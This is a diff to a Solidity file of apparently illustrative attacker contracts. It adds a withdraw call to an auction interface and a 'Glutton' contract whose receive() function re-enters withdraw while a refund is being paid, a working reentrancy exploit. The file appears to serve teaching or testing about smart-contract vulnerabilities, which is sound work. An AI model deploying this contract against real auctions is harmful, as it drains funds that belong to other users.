@@ -3,6 +3,7 @@ pragma solidity 0.8.37;
 
 interface IAuction {
     function bid() external payable;
+    function withdraw(address payable to) external;
 }
 
 // #region attack
@@ -18,3 +19,20 @@ contract Squatter {
     }
 }
 // #endregion attack
+
+// #region second
+/// Fetches its refund, and asks for it again while it is being paid.
+contract Glutton {
+    function bid(IAuction auction) external payable {
+        auction.bid{value: msg.value}();
+    }
+
+    function fetch(IAuction auction) external {
+        auction.withdraw(payable(address(this)));
+    }
+
+    receive() external payable {
+        IAuction(msg.sender).withdraw(payable(address(this)));
+    }
+}
+// #endregion second
